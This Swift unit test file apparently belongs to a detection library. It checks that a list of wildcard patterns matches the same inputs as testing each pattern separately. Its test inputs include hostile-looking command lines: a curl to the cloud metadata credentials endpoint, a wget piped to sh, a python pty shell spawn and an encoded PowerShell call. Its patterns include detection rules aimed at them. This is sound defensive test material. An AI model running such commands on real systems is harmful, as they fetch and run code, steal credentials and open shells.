import Testing
import VigilQuery

/// A list of patterns (with its gram filter and flat literal table) answers exactly as trying each pattern would.
struct WildcardListTests {
  /// Windows-style paths, command lines and short values, in mixed case, some with non-ASCII letters.
  static let inputs = [
    "C:\\Windows\\Tasks\\evil.exe", "c:\\windows\\tasks\\EVIL.EXE", "D:\\PerfLogs\\x.exe", "C:\\PerfLogs\\x.dll",
    "C:\\Users\\Public\\run.exe", "C:\\Users\\Bob\\run.exe", "cmd.exe /c whoami", "powershell -enc SQBFAFgA",
    "curl http://169.254.169.254/latest/meta-data/iam/security-credentials/role", "/tmp/x", "", "a", "ab",
    "abc", "C:\\WINDOWS\\İNF\\setup.exe", "C:\\Windows\\INF\\setup.exe", "\\Device\\HarddiskVolume2\\x.exe",
    "wget -q -O- http://example.org | sh", "python3 -c 'import pty; pty.spawn(\"/bin/sh\")'",
  ]

  static let patterns = [
    "?:\\PerfLogs\\*.exe", "?:\\Users\\Public\\*.exe", "?:\\Windows\\Tasks\\*.exe", "?:\\Windows\\INF\\*.exe",
    "*\\Device\\*", "*whoami*", "*-enc *", "*/latest/meta-data/iam/security-credentials/?*", "/tmp/*", "ab",
    "*| sh", "python*pty.spawn*", "*",
  ]

  @Test(arguments: [false, true])
  func aListMatchesWhatItsPatternsMatch(_ caseInsensitive: Bool) {
    // Every window of the pattern list, so lists of every length from 1 to 12 (with and without a filter).
    for length in 1...(Self.patterns.count - 1) {
      for start in 0...(Self.patterns.count - 1 - length) {
        let patterns = Self.patterns[start..<(start + length)].map {
          WildcardPattern($0, escaping: .none, caseInsensitive: caseInsensitive)
        }
        let list = WildcardList(patterns)
        for input in Self.inputs {
          var text = input
          let actual = text.withUTF8 { list.matches(UnsafeRawBufferPointer($0)) }
          let expected = patterns.contains { $0.matches(input) }
          #expect(actual == expected, "\(patterns.map(\.source)) on \(input)")
        }
      }
    }
  }

  @Test func aLongListFindsAPatternWhoseLiteralIsShorterThanAGram() {
    let patterns = ["*.exe", "a?c", "*zz*"] + (0..<10).map { "*needle\($0)*" }
    let list = WildcardList(patterns.map { WildcardPattern($0, caseInsensitive: true) })
    for (input, expected) in [
      ("ABC", true), ("x.EXE", true), ("fooZZ", true), ("has needle7 in", true), ("none", false),
    ] {
      var text = input
      #expect(text.withUTF8 { list.matches(UnsafeRawBufferPointer($0)) } == expected, "\(input)")
    }
  }
}
